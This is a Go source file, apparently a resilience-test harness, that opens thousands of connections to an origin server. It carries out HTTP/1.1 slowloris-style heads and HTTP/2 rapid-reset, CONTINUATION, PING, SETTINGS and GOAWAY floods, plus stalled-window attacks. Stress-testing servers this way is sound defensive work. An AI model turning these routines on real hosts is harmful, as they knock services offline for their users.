@@ -1,0 +1,314 @@
+package hostility
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"strings"
+	"sync"
+	"syscall"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+	"golang.org/x/sys/unix"
+)
+
+// attack is one kind of hostility: a number of connections, each served by a function until it is cut off. Connections
+// that the agent ends are opened again.
+type attack struct {
+	name        string
+	connections int
+	carry       func(conn net.Conn, begun func()) // calls begun when the connection is at its worst
+}
+
+var attacks = []attack{
+	{"fields repeated by their HPACK index", 4, repeatedFields},
+	{"unfinished heads of 250 KiB", 600, unfinishedHead},
+	{"heads of 250 KiB without a response", 600, unansweredHead},
+	{"unfinished header blocks of 250 KiB", 600, unfinishedBlock},
+	{"first bytes that do not decide", 2000, undecided},
+	{"stalled windows", 50, stalledWindow},
+	{"stalled downloads", 1000, stalledDownload},
+	{"stalled downloads over HTTP/2", 1000, stalledDownload2},
+	{"slow heads, a byte a second", 2000, slowHead},
+	{"rapid reset", 20, rapidReset},
+	{"CONTINUATION flood", 20, continuationFlood},
+	{"PING flood", 20, flood(http2.FramePing, 8)},
+	{"SETTINGS flood", 20, flood(http2.FrameSettings, 6)},
+	{"GOAWAY flood", 20, flood(http2.FrameGoAway, 8)},
+	{"interim responses without end", 50, interimResponses},
+	{"silent connections", 9000, silent},
+}
+
+// runAttack attacks until its standard input ends. It prints "ready" when every connection has been at its worst.
+func runAttack(name string) {
+	_ = syscall.Setpriority(syscall.PRIO_PROCESS, 0, 19)
+	for _, a := range attacks {
+		if a.name == name {
+			go a.run()
+			io.Copy(io.Discard, os.Stdin)
+			os.Exit(0)
+		}
+	}
+	fmt.Fprintf(os.Stderr, "unknown attack %q\n", name)
+	os.Exit(1)
+}
+
+func (a *attack) run() {
+	var all sync.WaitGroup
+	dialling := make(chan struct{}, 200)
+	for range a.connections {
+		all.Add(1)
+		go func() {
+			begun := sync.OnceFunc(all.Done)
+			for pause := time.NewTicker(100 * time.Millisecond); ; <-pause.C {
+				dialling <- struct{}{}
+				conn, err := net.DialTimeout("tcp", originAddress, 10*time.Second)
+				<-dialling
+				if err != nil {
+					fmt.Fprintln(os.Stderr, err)
+					continue
+				}
+				a.carry(conn, begun)
+				begun()
+				conn.Close()
+			}
+		}()
+	}
+	all.Wait()
+	fmt.Println("ready")
+}
+
+// drain reads until the agent ends the connection.
+func drain(conn net.Conn) { io.Copy(io.Discard, conn) }
+
+// stay waits until the agent ends the connection, and reads nothing before.
+func stay(conn net.Conn) {
+	raw, err := conn.(*net.TCPConn).SyscallConn()
+	if err != nil {
+		return
+	}
+	const established = 1
+	for pause := time.NewTicker(time.Second); ; <-pause.C {
+		ended := true
+		_ = raw.Control(func(fd uintptr) {
+			info, err := unix.GetsockoptTCPInfo(int(fd), unix.IPPROTO_TCP, unix.TCP_INFO)
+			ended = err != nil || info.State != established
+		})
+		if ended {
+			return
+		}
+	}
+}
+
+var (
+	largeHead    = []byte("GET /never HTTP/1.1\r\nHost: a\r\nX: " + strings.Repeat("x", 250<<10))
+	largeRequest = append(bytes.Clone(largeHead), "\r\n\r\n"...)
+)
+
+func unfinishedHead(conn net.Conn, begun func()) {
+	if _, err := conn.Write(largeHead); err == nil {
+		begun()
+		drain(conn)
+	}
+}
+
+func unansweredHead(conn net.Conn, begun func()) {
+	if _, err := conn.Write(largeRequest); err == nil {
+		begun()
+		drain(conn)
+	}
+}
+
+func undecided(conn net.Conn, begun func()) {
+	if _, err := conn.Write([]byte("GET /" + strings.Repeat("x", 15<<10))); err == nil {
+		begun()
+		drain(conn)
+	}
+}
+
+func slowHead(conn net.Conn, begun func()) {
+	if _, err := conn.Write([]byte("GET / HTTP/1.1\r\nHost: a\r\nX: ")); err != nil {
+		return
+	}
+	begun()
+	for range time.NewTicker(time.Second).C {
+		if _, err := conn.Write([]byte("x")); err != nil {
+			return
+		}
+	}
+}
+
+func silent(conn net.Conn, begun func()) {
+	begun()
+	drain(conn)
+}
+
+func stalledDownload(conn net.Conn, begun func()) {
+	if _, err := io.WriteString(conn, "GET /large HTTP/1.1\r\nHost: a\r\n\r\n"); err == nil {
+		begun()
+		stay(conn)
+	}
+}
+
+func interimResponses(conn net.Conn, begun func()) {
+	if _, err := io.WriteString(conn, "GET /interim HTTP/1.1\r\nHost: a\r\n\r\n"); err != nil {
+		return
+	}
+	if _, err := io.CopyN(io.Discard, conn, 1<<20); err == nil {
+		begun()
+		drain(conn)
+	}
+}
+
+// peer2 is the client's side of an HTTP/2 connection.
+type peer2 struct {
+	net.Conn
+	*http2.Framer
+	encoder *hpack.Encoder
+	block   bytes.Buffer
+}
+
+func begin2(conn net.Conn, settings ...http2.Setting) *peer2 {
+	p := &peer2{Conn: conn, Framer: http2.NewFramer(conn, conn)}
+	p.AllowIllegalWrites = true
+	p.encoder = hpack.NewEncoder(&p.block)
+	io.WriteString(conn, http2.ClientPreface)
+	p.WriteSettings(settings...)
+	return p
+}
+
+// request sends the head of a request, of which the end is open.
+func (p *peer2) request(stream uint32, path string, more ...hpack.HeaderField) error {
+	return p.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: p.fields(path, more...), EndHeaders: true, EndStream: path == "/large"})
+}
+
+func (p *peer2) fields(path string, more ...hpack.HeaderField) []byte {
+	p.block.Reset()
+	method := "POST"
+	if path == "/large" {
+		method = "GET"
+	}
+	for _, f := range append([]hpack.HeaderField{
+		{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path}, {Name: ":authority", Value: "a"},
+	}, more...) {
+		p.encoder.WriteField(f)
+	}
+	return p.block.Bytes()
+}
+
+func repeatedFields(conn net.Conn, begun func()) {
+	p := begin2(conn)
+	go drain(conn)
+	long := hpack.HeaderField{Name: "x-forwarded-for", Value: strings.Repeat("203.0.113.7,", 325)}
+	var fields []hpack.HeaderField
+	for range 60 {
+		fields = append(fields, long)
+	}
+	for i := range uint32(1500) {
+		if p.request(2*i+1, "/never", fields...) != nil {
+			return
+		}
+	}
+	begun()
+	for range time.NewTicker(time.Second).C {
+		if p.WritePing(false, [8]byte{}) != nil {
+			return
+		}
+	}
+}
+
+func unfinishedBlock(conn net.Conn, begun func()) {
+	p := begin2(conn)
+	block := append(p.fields("/"), "\x10\x01x\x7f\x81\x9e\x0f"...) // a literal of 250 KiB, of which not all will come
+	err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block})
+	piece := make([]byte, 16<<10)
+	for range 15 {
+		if err == nil {
+			err = p.WriteContinuation(1, false, piece)
+		}
+	}
+	if err == nil {
+		begun()
+		drain(conn)
+	}
+}
+
+// stalledWindow opens streams whose responses may send no byte.
+func stalledWindow(conn net.Conn, begun func()) {
+	p := begin2(conn, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+	go drain(conn)
+	for i := range uint32(1000) {
+		if p.request(2*i+1, "/large") != nil {
+			return
+		}
+	}
+	begun()
+	for range time.NewTicker(time.Second).C {
+		if p.WritePing(false, [8]byte{}) != nil {
+			return
+		}
+	}
+}
+
+// stalledDownload2 gives all the credit that there is, and reads nothing.
+func stalledDownload2(conn net.Conn, begun func()) {
+	p := begin2(conn, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
+	p.WriteWindowUpdate(0, 1<<31-1-65535)
+	for i := range uint32(10) {
+		if p.request(2*i+1, "/large") != nil {
+			return
+		}
+	}
+	begun()
+	stay(conn)
+}
+
+func rapidReset(conn net.Conn, begun func()) {
+	p := begin2(conn)
+	go drain(conn)
+	for stream := uint32(1); ; stream += 2 {
+		if p.request(stream, "/never") != nil || p.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
+			return
+		}
+		if stream == 1001 {
+			begun()
+		}
+	}
+}
+
+func continuationFlood(conn net.Conn, begun func()) {
+	p := begin2(conn)
+	go drain(conn)
+	err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.fields("/")})
+	for i := 0; err == nil; i++ {
+		err = p.WriteContinuation(1, false, nil)
+		if i == 1000 {
+			begun()
+		}
+	}
+}
+
+// flood sends frames of one type without end.
+func flood(of http2.FrameType, size int) func(net.Conn, func()) {
+	return func(conn net.Conn, begun func()) {
+		begin2(conn)
+		go drain(conn)
+		frame := append([]byte{0, 0, byte(size), byte(of), 0, 0, 0, 0, 0}, make([]byte, size)...)
+		if of == http2.FrameSettings {
+			frame[10] = byte(http2.SettingMaxConcurrentStreams)
+		}
+		many := bytes.Repeat(frame, 100)
+		for i := 0; ; i++ {
+			if _, err := conn.Write(many); err != nil {
+				return
+			}
+			if i == 100 {
+				begun()
+			}
+		}
+	}
+}
